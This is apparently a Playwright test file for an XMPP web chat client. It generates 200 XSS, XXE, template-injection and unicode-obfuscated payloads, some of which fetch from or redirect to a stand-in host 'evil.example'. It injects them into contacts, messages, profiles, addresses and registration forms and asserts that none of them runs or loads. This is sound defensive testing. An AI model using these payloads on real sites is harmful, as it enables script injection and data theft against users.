// Two hundred strings that would be markup, code, an address or another's words, wherever remote text comes in: shown as text, exactly, and
// nothing of them runs, loads or leads anywhere.
import type { Browser, BrowserContext, BrowserContextOptions, Locator } from "@playwright/test";
import { App } from "./support/app";
import type { Peer } from "./support/peer";
import { complaints } from "./support/policy";
import { watched } from "./support/proxy";
import { Registrar, registration } from "./support/registrar";
import { expect, test } from "./support/test";

const HOST = "evil.example";
const CALLS = ["hit()", "alert(1)", "top.hit()", "parent.document.title='owned'", "eval('hit()')", "import('//evil.example/a.js')", "fetch('//evil.example/f')", "location='//evil.example/l'"];
// %C% is code, %U% an address elsewhere.
const SHAPES = [
  "<script>%C%</script>", "<script src=%U%></script>", "</textarea><script>%C%</script>", "</title><script>%C%</script>", "--><script>%C%</script>", "<script type=module>%C%</script>",
  "<img src=x onerror=%C%>", "<img src=%U%>", "<img srcset='%U% 1x'>", "\"><img src=x onerror=%C%>", "'><img src=x onerror=%C%>", "<IMG SRC=x OnErRoR=%C%>", "<img/src=x/onerror=%C%>", "<image href=x onerror=%C%>",
  "<svg onload=%C%>", "<svg><script>%C%</script></svg>", "<svg><image href=%U%>", "<svg><use href='%U%#x'/></svg>", "<svg><animate onbegin=%C% attributeName=x dur=1s>", "<svg><a href='javascript:%C%'>x</a></svg>",
  "<math><mtext><style><img src=x onerror=%C%></style></mtext></math>", "<math href='javascript:%C%'>x</math>", "<noscript><p title='</noscript><img src=x onerror=%C%>'>", "<template><script>%C%</script></template>",
  "<iframe src=%U%></iframe>", "<iframe srcdoc='<script>%C%</script>'>", "<object data=%U%>", "<embed src=%U%>", "<video src=%U% autoplay onerror=%C%>", "<audio src=%U% autoplay>", "<video><source onerror=%C%>", "<input autofocus onfocus=%C%>",
  "<details open ontoggle=%C%>", "<body onload=%C%>", "<marquee onstart=%C%>", "<form action=%U%><button>x</button></form>", "<button formaction='javascript:%C%'>x</button>", "<link rel=stylesheet href=%U%>", "<link rel=prefetch href=%U%>",
  "<style>@import '%U%';</style>", "<style>*{background:url(%U%)}</style>", "<p style='background:url(%U%)'>x", "<meta http-equiv=refresh content='0;url=%U%'>", "<base href=%U%>", "<a href='javascript:%C%'>x</a>", "<a href=%U% ping=%U%>x</a>",
  "javascript:%C%", "JaVaScRiPt:%C%", "java\u00adscript:%C%", "vbscript:%C%", "data:text/html,<script>%C%</script>", "data:image/svg+xml,<svg onload=%C%>", "blob:%U%", "xmpp:a@evil.example?message;body=<script>%C%</script>",
  "\" onmouseover=%C% x=\"", "' onfocus=%C% autofocus '", "` onerror=%C% `", "&lt;script&gt;%C%&lt;/script&gt;", "&#60;script&#62;%C%", "&#x3c;img src=x onerror=%C%>", "%3Cscript%3E%C%%3C/script%3E", "\\u003cscript\\u003e%C%", "\\x3cscript>%C%",
  "${%C%}", "{{%C%}}", "{%C%}", "{ $name } %C%", "#{%C%}", "<%= %C% %>", "<!--#exec cmd='%C%'-->", "<![CDATA[<script>%C%</script>]]>", "<?xml version='1.0'?><script>%C%</script>", "<!DOCTYPE x [<!ENTITY e SYSTEM '%U%'>]><x>&e;</x>",
  "!(x)[%U%] ![x](%U%)", "[x](javascript:%C%)", "</message><message><body>%C%</body></message>", "]]></body><script>%C%</script>", "__proto__.hit=%C%", "constructor.constructor('%C%')()", "url(javascript:%C%)", "expression(%C%)",
  "x\u202e<script>%C%</script>", "<scr\u200bipt>%C%</script>", "\uff1cscript\uff1e%C%\uff1c/script\uff1e", "<\u0073cript>%C%</\u0073cript>", "<img src=x onerror\u00a0=%C%>", "<a\u2028href=javascript:%C%>x", "🙂<script>%C%</script>🙂", "ä̈<b onclick=%C%>é",
];
const STRINGS: string[] = [];
for (let n = 0; STRINGS.length < 200; n += 1) {
  const shape = SHAPES[n % SHAPES.length];
  const round = Math.floor(n / SHAPES.length);
  const text = shape.replaceAll("%C%", CALLS[(n + round) % CALLS.length]).replaceAll("%U%", `${["//", "https://", "http://"][round % 3]}${HOST}/${n}`);
  if (!STRINGS.includes(text)) STRINGS.push(text);
}
/** Every so-manieth, each place another share of them. */
const some = (every: number, from: number) => STRINGS.filter((_, n) => n % every === from % every);
const batches = (size: number) => Array.from({ length: Math.ceil(STRINGS.length / size) }, (_, n) => STRINGS.slice(n * size, (n + 1) * size));
const inXml = (text: string) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll(">", "&gt;").replaceAll("'", "&apos;").replaceAll('"', "&quot;");
/** A line as it is shown beside other people's: without what would make it look like something else. */
const line = (text: string) => text.replace(/[\u202a-\u202e\u200b\u200e\u200f]/g, "").replace(/\s+/g, " ").trim();

/** A browser of its own whose every connection is seen; what ran in it, and what it was refused. */
async function guarded(browser: Browser, options?: BrowserContextOptions) {
  const { context, asked, close } = await watched(browser, options);
  const ran: string[] = [];
  await listen(context, ran);
  return { context, asked, close, ran, refused: complaints(context) };
}
async function listen(context: BrowserContext, ran: string[]): Promise<void> {
  await context.exposeFunction("hit", () => { ran.push("hit"); });
  await context.addInitScript(() => {
    for (const name of ["alert", "confirm", "prompt"]) (window as any)[name] = () => (window as any).hit();
  });
  context.on("dialog", (dialog) => { ran.push(dialog.message()); void dialog.dismiss(); });
  const own = /^(about:blank|http:\/\/(localhost|127\.0\.0\.1):)/;
  context.on("page", (page) => page.on("framenavigated", (frame) => { if (!own.test(frame.url())) ran.push(frame.url()); }));
}
/** What no text may have become. */
const made = (place: Locator) => place.locator("script, iframe, object, embed, video, audio, form form, base, link, style, meta, math, img:not([src^='blob:']), a[href^='javascript'], a[href^='data'], a[href^='vbscript'], [onerror], [onload], [onclick]");

test("no string that comes from others is anything but text", async ({ account, peer, browser, site, prosody }) => {
  test.setTimeout(240_000);
  const { context, asked, close, ran, refused } = await guarded(browser);
  const [alice, old, young] = [await account("alice"), await account("old"), await account("young")];
  const contacts = STRINGS.map((name, n) => ({ jid: `contact${n}@localhost`, password: "", name, ...(n % 10 === 0 && { group: name }) }));
  await prosody.befriend(alice, old, young, ...contacts);
  const [legacy, omemo2] = [await peer(old), await peer(young, { flavours: "omemo2" })];
  const page = await context.newPage();
  const app = await new App(page, site).signIn(alice);

  await test.step("names in the roster, and groups", async () => {
    await page.goto(`${site}#/contacts`);
    const list = page.getByRole("navigation", { name: "Contacts" });
    const shown = new Map<string, string>();
    // Only what is in view is drawn.
    await expect.poll(async () => {
      for (const [jid, text] of await list.locator("[data-jid]").evaluateAll((all) => all.map((it) => [it.getAttribute("data-jid")!, it.textContent!]))) shown.set(jid, text);
      await expect(made(list)).toHaveCount(0);
      await list.evaluate((list) => {
        const scrolls = [list, ...list.querySelectorAll("*")].find((it) => it.scrollHeight > it.clientHeight + 50 && /auto|scroll/.test(getComputedStyle(it).overflowY));
        scrolls?.scrollBy(0, scrolls.clientHeight * 0.8);
      });
      return contacts.filter(({ jid }) => !shown.has(jid)).length;
    }, { intervals: [50], timeout: 30_000 }).toBe(0);
    for (const { jid, name } of contacts) expect(shown.get(jid), jid).toContain(line(name));
    await expect(made(list)).toHaveCount(0);
  });

  const say = async (from: Peer, send: (text: string) => Promise<unknown>, size: number, joined: number) => {
    await app.openChat(from.account.jid);
    for (const batch of batches(size)) {
      const texts = joined > 1 ? Array.from({ length: Math.ceil(batch.length / joined) }, (_, n) => batch.slice(n * joined, (n + 1) * joined).join("\n")) : batch;
      for (const text of texts) await send(text);
      // What comes faster than it is drawn is read from its beginning.
      const newest = page.getByRole("button", { name: "Newest messages" });
      await expect.poll(async () => {
        if (await newest.isVisible()) await newest.click();
        return (await app.texts()).at(-1);
      }, { timeout: 15_000 }).toBe(texts.at(-1));
      const shown = await app.texts();
      expect(shown.slice(-texts.length)).toEqual(texts);
      await expect(made(app.log)).toHaveCount(0);
    }
  };
  await test.step("texts in the clear, with addresses of files beside them", async () => {
    await say(legacy, (text) => legacy.sendPlain(alice, text, [`<x xmlns="jabber:x:oob"><url>https://${HOST}/${inXml(encodeURIComponent(text))}</url><desc>${inXml(text)}</desc></x>`]), 40, 1);
  });
  await test.step("texts in both flavours", async () => {
    await say(legacy, (text) => legacy.send(alice, text), 200, 10);
    await say(omemo2, (text) => omemo2.send(alice, text), 200, 10);
  });
  await test.step("answers and what they quote, reactions", async () => {
    const id = await omemo2.send(alice, "What do you say?");
    await app.message("What do you say?");
    for (const text of some(40, 7)) {
      const quoted = await omemo2.send(alice, text);
      await omemo2.send(alice, `> ${text}\nAn answer to ${text}`, [`<reply xmlns="urn:xmpp:reply:0" id="${quoted}" to="${young.jid}"/>`, `<fallback xmlns="urn:xmpp:fallback:0" for="urn:xmpp:reply:0"><body start="0" end="${[...text].length + 3}"/></fallback>`]);
      const answer = await app.message(`An answer to ${text}`);
      await expect(answer).toContainText(text);
    }
    await omemo2.send(alice, null, [`<reactions xmlns="urn:xmpp:reactions:0" id="${id}">${STRINGS.map((it) => `<reaction>${inXml(it)}</reaction>`).join("")}<reaction>👍</reaction></reactions>`]);
    const message = await app.message("What do you say?");
    await expect(app.chip(message, "👍")).toBeVisible();
    await expect(made(app.log)).toHaveCount(0);
  });
  await test.step("nicknames and what people say of themselves", async () => {
    const head = page.locator(".pane-head");
    for (const text of some(20, 3)) {
      await omemo2.presence("away", text);
      await expect(head).toContainText(line(text).slice(0, 60));
    }
    for (const text of some(20, 11)) {
      await omemo2.nick(text);
      await expect(page.locator(".pane-title")).toContainText(line(text).slice(0, 60));
    }
    await expect(made(head)).toHaveCount(0);
    const [one, two, three, four, five] = some(40, 5).map(inXml);
    await omemo2.vcard(`<vcard xmlns="urn:ietf:params:xml:ns:vcard-4.0"><fn><text>${one}</text></fn><nickname><text>${two}</text></nickname><org><text>${three}</text></org><title><text>${four}</text></title>`
      + `<role><text>${five}</text></role><email><text>${one}</text></email><tel><uri>${two}</uri></tel><url><uri>${three}</uri></url><bday><text>${four}</text></bday><adr><street>${one}</street><locality>${two}</locality></adr><note><text>${STRINGS.slice(0, 40).map(inXml).join("\n")}</text></note></vcard>`);
    await page.locator(".pane-title").getByRole("button").click();
    const card = page.getByRole("dialog", { name: "Contact details" });
    await expect(card.locator('[data-part="profile"]')).toContainText(some(40, 5)[0]);
    await expect(made(card)).toHaveCount(0);
    await page.keyboard.press("Escape");
  });
  await test.step("xmpp: addresses", async () => {
    const dialog = page.getByRole("dialog", { name: "Open an address" });
    for (const text of some(10, 9)) {
      const value = encodeURIComponent(text.replaceAll(";", ","));
      for (const uri of [`xmpp:someone@localhost?message;body=${value}`, `xmpp:someone@localhost?roster;name=${value}`, `xmpp:${value}`]) {
        await page.goto(`${site}#/open?uri=${encodeURIComponent(uri)}`);
        await expect(dialog).toBeVisible();
      }
      await page.goto(`${site}#/open?uri=${encodeURIComponent(text)}`);
      await expect(dialog).toBeVisible();
      await page.goto(`${site}#/chat/${encodeURIComponent(text)}`);
      await expect(dialog).toBeHidden();
    }
    await expect(made(page.locator("body"))).toHaveCount(0);
  });
  // Everything that is kept is drawn once more.
  await page.reload();
  await app.online();
  await app.openChat(young.jid);
  await app.message("What do you say?");

  expect(ran).toEqual([]);
  expect(refused).toEqual([]);
  await expect(page).not.toHaveTitle(/owned/);
  expect([...asked].sort()).toEqual([new URL(site).host, new URL(prosody.websocket).host].sort());
  await close();
});

test("no string of a server's form, and none of a deployment's name, is anything but text", async ({ browser, site }) => {
  // The deployment's name is another one at each visit, so nothing of the visit before may be kept.
  const { context, asked, close, ran, refused } = await guarded(browser, { serviceWorkers: "block" });
  const page = await context.newPage();
  let strings: string[] = [];
  const form = () => `<x xmlns='jabber:x:data' type='form'><title>${inXml(strings[0])}</title><instructions>${inXml(strings[1])}</instructions><field type='hidden' var='FORM_TYPE'><value>jabber:iq:register</value></field>
    ${strings.map((text, n) => `<field var='f${n}' type='${["text-single", "boolean", "list-single", "text-multi"][n % 4]}' label='${inXml(text)}'><desc>${inXml(text)}</desc><option label='${inXml(text)}'><value>${inXml(text)}</value></option><value>${n % 4 === 1 ? "1" : inXml(text)}</value></field>`).join("")}</x>`;
  const registrar = await Registrar.start(registration(form, () => ""));
  for (const [visit, batch] of batches(50).entries()) {
    strings = batch;
    await context.unroute("**/config.json").catch(() => {});
    await context.route("**/config.json", (route) => route.fulfill({ json: { domain: "example.org", websocket: registrar.websocket, name: batch.slice(0, 3).join(" ") } }));
    await page.goto(`${site}?${visit}#/`);
    await expect(page.getByRole("heading", { level: 1 })).toHaveText(batch.slice(0, 3).join(" "));
    await page.goto(`${page.url().split("#")[0]}#/register`);
    await expect(page.getByRole("heading", { name: line(strings[0]) })).toBeVisible();
    for (const text of batch) await expect(page.locator("form")).toContainText(line(text));
    await expect(made(page.locator("body"))).toHaveCount(0);
  }
  expect(ran).toEqual([]);
  expect(refused).toEqual([]);
  expect([...asked].sort()).toEqual([new URL(site).host, new URL(registrar.websocket).host].sort());
  await registrar.close();
  await close();
});
